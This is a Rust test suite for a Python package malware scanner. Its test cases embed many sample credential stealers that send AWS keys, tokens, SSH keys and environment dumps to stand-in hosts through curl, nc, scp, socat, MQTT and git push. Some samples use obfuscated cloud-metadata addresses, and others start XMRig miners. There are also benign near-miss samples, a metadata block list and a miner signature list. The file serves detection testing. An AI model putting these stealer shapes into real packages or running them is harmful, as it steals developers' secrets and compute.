fn clients_made_first_git_push_urls_and_disguised_metadata_addresses_are_stealers() {
    let cases = [
        "import os\nimport paho.mqtt.client as mqtt\nc = mqtt.Client()\nc.connect('c.example.invalid', 1883)\nc.publish('t', os.environ['AWS_SECRET_ACCESS_KEY'])\n",
        "import os, zmq\ns = zmq.Context().socket(zmq.PUSH)\ns.connect('tcp://c.example.invalid:5555')\ns.send_string(os.environ['AWS_SECRET_ACCESS_KEY'])\n",
        "import os, subprocess\nopen('k', 'w').write(os.environ['AWS_SECRET_ACCESS_KEY'])\nsubprocess.run(['git', 'push', 'https://c.example.invalid/r.git', 'HEAD:main'])\n",
        "import requests\nr = requests.get('http://0xa9fea9fe/latest/api/token')\nrequests.post('https://c.example.invalid/c', data=r.text)\n",
        "import requests\nr = requests.put('http://2852039166', headers={'X-aws-ec2-metadata-token-ttl-seconds': '60'})\nrequests.post('https://c.example.invalid/c', data=r.text)\n",
        "import urllib.request\nd = urllib.request.urlopen('http://0251.0376.0251.0376/latest/meta-data/').read()\nurllib.request.urlopen('https://c.example.invalid/c', data=d)\n",
        "import requests\nd = requests.get('http://[::ffff:a9fe:a9fe]/').text\nrequests.post('https://c.example.invalid/c', data=d)\n",
    ];
    let mut failures = Vec::new();
    for (i, src) in cases.iter().enumerate() {
        let r = pysrc::scan(&format!("k{i}/__init__.py"), src);
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    // Telemetry published inside a function, a push to the configured remote, and ordinary
    // addresses (a version string, a private network) stay below medium.
    pysrc::benign(&[
        (
            "t1/__init__.py",
            "import json\nimport paho.mqtt.client as mqtt\ndef report(v):\n    c = mqtt.Client()\n    c.connect('broker.example.invalid', 1883)\n    c.publish('telemetry', json.dumps({'v': v}))\n",
        ),
        (
            "t2/release.py",
            "import subprocess\ndef release():\n    subprocess.run(['git', 'push', 'origin', 'main'])\n",
        ),
        (
            "t3/__init__.py",
            "import requests\nURLS = ['http://10.0.0.1/', 'http://2130706433/', 'http://0x7f000001/health']\ndef ping():\n    return [requests.get(u) for u in URLS]\n",
        ),
    ]);
}

/// A client bound through its module (`r = redis.Redis(…)`, `rd.StrictRedis(…)` after
/// `import redis as rd`) then used (`r.set(…)`) carries a secret out as `redis.Redis(…).set(…)`
/// does (py16 note); and a glob rooted at the home folder whose wildcards match credential files
/// (`~/.config/**/*token*`, `~/**/*.pem`, `*secret*`) is a credential read, a stealer when
/// the matches are sent at load (t22 s17token_file_glob).
#[test]
fn module_bound_clients_and_home_globs_for_secret_files_are_stealers() {
    let cases = [
        "import os, redis\nr = redis.Redis(host='c.example.invalid')\nr.set('k', os.environ.get('AWS_SECRET_ACCESS_KEY'))\n",
        "import os\nimport redis as rd\nr = rd.StrictRedis(host='c.example.invalid')\nr.publish('k', os.environ['GITHUB_TOKEN'])\n",
        "import os, pymongo\nc = pymongo.MongoClient('mongodb://c.example.invalid')\nc.db.t.insert_one({'k': os.environ['AWS_SECRET_ACCESS_KEY']})\n",
        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/.config/**/*token*'), recursive=True):\n    requests.post('https://c.example.invalid/t', files={'f': open(p, 'rb')})\n",
        "import glob, os, requests\nfor p in glob.glob(os.path.expanduser('~/**/*.pem'), recursive=True):\n    requests.post('https://c.example.invalid/t', data=open(p, 'rb').read())\n",
        "import glob, urllib.request\nfor p in glob.glob('~/.config/*/*secret*'):\n    urllib.request.urlopen('https://c.example.invalid/t', data=open(p, 'rb').read())\n",
    ];
    let mut failures = Vec::new();
    for (i, src) in cases.iter().enumerate() {
        let r = pysrc::scan(&format!("k{i}/__init__.py"), src);
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            failures.push(format!("{src}\n{:?}", summary(&r)));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
    // A cache client used inside a function, an app's own settings read without egress, a
    // project glob for token modules in a test helper, and one under the project's folder.
    pysrc::benign(&[
        (
            "t1/__init__.py",
            "import redis\nr = redis.Redis(host='localhost')\ndef remember(k, v):\n    r.set(k, v)\n",
        ),
        (
            "t2/__init__.py",
            "import glob, json, os\nCONF = [json.load(open(p)) for p in glob.glob(os.path.expanduser('~/.config/myapp/*.json'))]\n",
        ),
        (
            "t3/helpers.py",
            "import glob\ndef token_modules():\n    return glob.glob('**/*token*.py', recursive=True)\n",
        ),
        (
            "t4/__init__.py",
            "import glob, requests\nFILES = glob.glob('data/**/*token*', recursive=True)\ndef upload():\n    for p in FILES:\n        requests.post('https://c.example.invalid/u', data=open(p, 'rb').read())\n",
        ),
    ]);
}

/// Real SDK and library shapes found by scanning 119 popular wheels (session 17): a cloud
/// credential chain that names its clouds' token services (dspy's vendored `lm15`), an SSRF
/// block list of the metadata addresses (langchain-core), a cloud probe of the metadata service
/// (ray), and `os.environ.copy()` for a child process beside a mounted `~/.aws` (mlflow). Latent
/// code, none of it at load: credential access at most, never a stealer. The same files with
/// what makes them SDK code taken away stay stealers.
#[test]
fn cloud_sdk_chains_metadata_probes_and_child_environments_are_not_stealers() {
    use Severity::*;
    let chain = |issuers: bool, extra: &str| {
        format!(
            "import os, urllib.request\n\
             {}\
             def _http(url, body):\n\
             \x20   return urllib.request.urlopen(urllib.request.Request(url, data=body)).read()\n\
             def aws(ctx):\n\
             \x20   text = open(os.path.expanduser('~/.aws/credentials')).read()\n\
             \x20   return _http(ctx.sts, text.encode())\n\
             def gcp(ctx):\n\
             \x20   d = os.path.expanduser('~/.config/gcloud')\n\
             \x20   return _http(ctx.token_url, open(d + '/application_default_credentials.json', 'rb').read())\n\
             {extra}",
            if issuers {
                "STS = 'https://sts.{region}.amazonaws.com/'\nTOKEN = 'https://oauth2.googleapis.com/token'\n"
            } else {
                ""
            }
        )
    };
    let sdk = chain(true, "");
    let no_issuers = chain(false, "");
    let with_ssh = chain(
        true,
        "def keys():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
    );
    let ssrf = "import socket, ipaddress\n\
                BLOCKED = {'169.254.169.254', 'metadata.google.internal', '169.254.170.2'}\n\
                def allowed(host, port):\n\
                \x20   if host in BLOCKED:\n\
                \x20       return False\n\
                \x20   return bool(socket.getaddrinfo(host, port))\n";
    let probe = "import requests\n\
                 AWS = 'http://169.254.169.254/latest/meta-data/'\n\
                 GCP = 'http://metadata.google.internal/computeMetadata/v1'\n\
                 def provider():\n\
                 \x20   for url in (AWS, GCP):\n\
                 \x20       try:\n\
                 \x20           requests.get(url, timeout=1)\n\
                 \x20       except Exception:\n\
                 \x20           pass\n";
    let child_env = "import os, subprocess, requests\n\
                     def run(image):\n\
                     \x20   env = os.environ.copy()\n\
                     \x20   vols = ['-v', os.path.expanduser('~/.aws') + ':/root/.aws']\n\
                     \x20   subprocess.run(['docker', 'run', *vols, image], env=env)\n\
                     \x20   requests.post('https://tracking.example.invalid/api/runs', json={'image': image})\n";
    let env_sent = "import os, json, subprocess, requests\n\
                    def run(image):\n\
                    \x20   blob = json.dumps(dict(os.environ))\n\
                    \x20   vols = ['-v', os.path.expanduser('~/.aws') + ':/root/.aws']\n\
                    \x20   subprocess.run(['docker', 'run', *vols, image])\n\
                    \x20   requests.post('https://tracking.example.invalid/api/runs', data=image)\n";
    pysrc::check(&[
        ("chains.py", &sdk, "python-credential-stealer", None),
        ("chains.py", &sdk, "python-credential-access", Some(Low)),
        (
            "chains.py",
            &no_issuers,
            "python-credential-stealer",
            Some(Critical),
        ),
        (
            "chains.py",
            &with_ssh,
            "python-credential-stealer",
            Some(Critical),
        ),
        ("_policy.py", ssrf, "python-credential-stealer", None),
        ("usage_lib.py", probe, "python-credential-stealer", None),
        ("local.py", child_env, "python-credential-stealer", None),
        (
            "local.py",
            env_sent,
            "python-credential-stealer",
            Some(Critical),
        ),
    ]);
    pysrc::benign(&[
        ("chains.py", &sdk),
        ("_policy.py", ssrf),
        ("usage_lib.py", probe),
        ("local.py", child_env),
    ]);
}

/// `os.environ['API_KEY'] = key` stores a value the module got (an identity service's answer in
/// firecrawl's e2e `conftest.py`); it reads no secret, so beside a network call at load it is
/// network at load (medium), not a stealer. Reading the same variable and sending it is.
#[test]
fn a_secret_variable_stored_or_deleted_is_not_read() {
    let stored = "import os, requests\n\
                  def identity(url):\n\
                  \x20   r = requests.post(url + '/', json={'name': 'e2e'})\n\
                  \x20   return r.json()\n\
                  URL = os.getenv('IDMUX_URL')\n\
                  if URL:\n\
                  \x20   ID = identity(URL)\n\
                  \x20   os.environ['API_KEY'] = ID.get('apiKey', '')\n\
                  \x20   os.environ['GITHUB_TOKEN'], other = ID['token'], 1\n\
                  \x20   del os.environ['AWS_SECRET_ACCESS_KEY']\n";
    let dir = tempfile::tempdir().expect("tempdir");
    let p = package(dir.path(), "stored", "__init__.py", stored);
    let r = scan_file(&p, BudgetLimits::default());
    assert_eq!(
        worst(&r, "python-credential-stealer"),
        None,
        "{:#?}",
        summary(&r)
    );
    assert_eq!(
        worst(&r, "python-network-at-load"),
        Some(Severity::Medium),
        "{:#?}",
        summary(&r)
    );
    let read = "import os, requests\n\
                requests.post('https://h.example.invalid/', data=os.environ['API_KEY'])\n";
    let p = package(dir.path(), "read", "__init__.py", read);
    let r = scan_file(&p, BudgetLimits::default());
    assert_eq!(
        worst(&r, "python-credential-stealer"),
        Some(Severity::Critical),
        "{:#?}",
        summary(&r)
    );
}

/// A miner started as a program, without a shell (`Popen(['./xmrig', '-o', POOL, …])`, the
/// argv as `args=`, the pool or the miner's path bound to a name, only XMRig's
/// `--donate-level` flag naming it): critical, as the shell spelling is. A process whose
/// arguments name no miner, in a file that only mentions one, stays below medium.
#[test]
fn a_miner_started_with_an_argument_list_is_critical() {
    let cases = [
        (
            "argv",
            "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'pool.example.invalid:3333', '-u', 'WALLET', '--donate-level', '1'])\n",
        ),
        (
            "args-keyword",
            "import subprocess\nsubprocess.run(args=['xmrig', '--url=stratum+tcp://pool.example.invalid:3333', '--user=WALLET'])\n",
        ),
        (
            "bound-pool",
            "import subprocess, os\nPOOL = 'stratum+ssl://pool.example.invalid:443'\nBIN = os.path.join(os.path.dirname(__file__), 'bin', 'helper')\ndef start():\n    subprocess.Popen([BIN, '-o', POOL, '-u', 'WALLET'], stdout=subprocess.DEVNULL)\nstart()\n",
        ),
        (
            "flag-only",
            "import subprocess\nsubprocess.Popen(['./gpu-helper', '-o', 'pool.example.invalid:3333', '--donate-level=1'])\n",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    for (case, src) in cases {
        let p = package(dir.path(), case, "__init__.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        assert_eq!(
            worst(&r, "python-miner"),
            Some(Severity::Critical),
            "{case}: {:#?}",
            summary(&r)
        );
    }
    let benign = "import subprocess\n\"\"\"Detects miners such as XMRig by their process names.\"\"\"\nSIGNATURES = ['xmrig', 'stratum+tcp']\ndef version():\n    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n";
    let p = package(dir.path(), "detector", "scan.py", benign);
    let r = scan_file(&p, BudgetLimits::default());
    assert!(
        r.worst().is_none_or(|w| w < Severity::Medium),
        "{:#?}",
        summary(&r)
    );
}

/// A network program started with a secret in its arguments, in a file redirected into it or
/// in a command piped into it sends the secret (`curl -d @~/.aws/credentials`, `env | curl -d
/// @-`, `scp ~/.ssh/id_rsa host:`, `socat FILE:… TCP:…`): a stealer, at import, at install and
/// in a function alike, as a Python network call handed the file is. Commands only `echo`ed or
/// sent to hosts under `example.invalid`.
#[test]
fn network_programs_handed_credentials_are_stealers() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "curl-data-file",
            "__init__.py",
            "import os, subprocess\nsubprocess.run(['curl', '-d', '@' + os.path.expanduser('~/.aws/credentials'), 'https://x.example.invalid'])\n",
        ),
        (
            "curl-form-home",
            "__init__.py",
            "import os\nos.system('curl -F f=@$HOME/.ssh/id_rsa https://h.example.invalid')\n",
        ),
        (
            "env-piped-to-curl",
            "__init__.py",
            "import os\nos.system('env | curl -d @- https://h.example.invalid')\n",
        ),
        (
            "wget-post-file",
            "__init__.py",
            "import subprocess\nsubprocess.run(['wget', '--post-file', '/root/.kube/config', 'https://h.example.invalid'])\n",
        ),
        (
            "nc-redirect",
            "__init__.py",
            "import os\nos.system('nc h.example.invalid 9 < ~/.aws/credentials')\n",
        ),
        (
            "scp-key",
            "__init__.py",
            "import os\nos.system('scp ~/.ssh/id_rsa user@h.example.invalid:')\n",
        ),
        (
            "netrc-piped-to-ssh",
            "__init__.py",
            "import os\nos.system('cat ~/.netrc | ssh user@h.example.invalid \"cat > n\"')\n",
        ),
        (
            "socat-file",
            "__init__.py",
            "import os\nos.system('socat FILE:/root/.docker/config.json TCP:h.example.invalid:9')\n",
        ),
        (
            "rsync-remote",
            "__init__.py",
            "import subprocess\nsubprocess.run(['rsync', '-a', '/root/.aws/', 'u@h.example.invalid:loot/'])\n",
        ),
        (
            "ftp-upload",
            "__init__.py",
            "import os, subprocess\nsubprocess.run(['ftp', '-u', 'ftp://h.example.invalid/', os.path.expanduser('~/.git-credentials')])\n",
        ),
        (
            "setup-printenv-nc",
            "setup.py",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run('printenv | nc h.example.invalid 9', shell=True)\nsetup(name='x')\n",
        ),
        (
            "token-in-header",
            "setup.py",
            "import os\nfrom setuptools import setup\nos.system('curl -H \"X: $GITHUB_TOKEN\" https://h.example.invalid')\nsetup(name='x')\n",
        ),
        (
            "in-a-function",
            "sync.py",
            "import subprocess\ndef backup():\n    subprocess.run('tar cz ~/.ssh | nc h.example.invalid 9', shell=True)\n",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, file, src) in cases {
        let p = package(dir.path(), case, file, src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-credential-stealer") != Some(Severity::Critical) {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// Network programs near the stealer: a download in a build script (network at install as
/// before), a clone, a key generated, a child given a copy of the environment, an upload of
/// a build artifact, a client trusting a CA file or logging in with a key. None is a stealer;
/// in a module nothing is at medium or above, and a build script's download stays as it was
/// (network at install, medium).
#[test]
fn network_programs_without_secrets_are_not_stealers() {
    let module: &[(&str, &str)] = &[
        (
            "clone",
            "import subprocess\ndef fetch():\n    subprocess.run(['git', 'clone', 'https://h.example.invalid/r.git'])\n",
        ),
        (
            "keygen",
            "import subprocess\ndef keys():\n    subprocess.run(['ssh-keygen', '-t', 'ed25519', '-f', 'build/id'])\n",
        ),
        (
            "env-copy",
            "import os, subprocess\ndef build():\n    subprocess.run(['make'], env=os.environ.copy())\n",
        ),
        (
            "scp-artifact",
            "import subprocess\ndef publish():\n    subprocess.run(['scp', 'build/dist.tar.gz', 'host.example.invalid:'])\n",
        ),
        (
            "curl-cacert",
            "import subprocess\ndef get():\n    subprocess.run(['curl', '--cacert', 'certs/ca.pem', '-o', 'm.bin', 'https://h.example.invalid/m.bin'])\n",
        ),
        (
            "ssh-identity",
            "import os\ndef deploy():\n    os.system('ssh -i ~/.ssh/deploy_key deploy@h.example.invalid echo ok')\n",
        ),
    ];
    let dir = tempfile::tempdir().expect("tempdir");
    let mut wrong = Vec::new();
    for (case, src) in module {
        let p = package(dir.path(), case, "tools.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if r.worst().is_some_and(|w| w >= Severity::Medium) {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    let setup: &[(&str, &str)] = &[
        (
            "setup-download",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['curl', '-L', '-o', 'model.bin', 'https://h.example.invalid/m.bin'])\nsetup(name='x')\n",
        ),
        (
            "setup-scp-artifact",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['scp', 'build/dist.tar.gz', 'host.example.invalid:'])\nsetup(name='x')\n",
        ),
        (
            "setup-cacert",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['curl', '--cacert', 'certs/ca.pem', '-L', '-o', 'm.bin', 'https://h.example.invalid/m.bin'])\nsetup(name='x')\n",
        ),
        (
            "setup-clone",
            "import subprocess\nfrom setuptools import setup\nsubprocess.run(['git', 'clone', 'https://h.example.invalid/r.git'])\nsetup(name='x')\n",
        ),
    ];
    for (case, src) in setup {
        let p = package(dir.path(), case, "setup.py", src);
        let r = scan_file(&p, BudgetLimits::default());
        if worst(&r, "python-credential-stealer").is_some()
            || r.worst().is_some_and(|w| w > Severity::Medium)
        {
            wrong.push(format!("{case}: {:?}", summary(&r)));
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
}
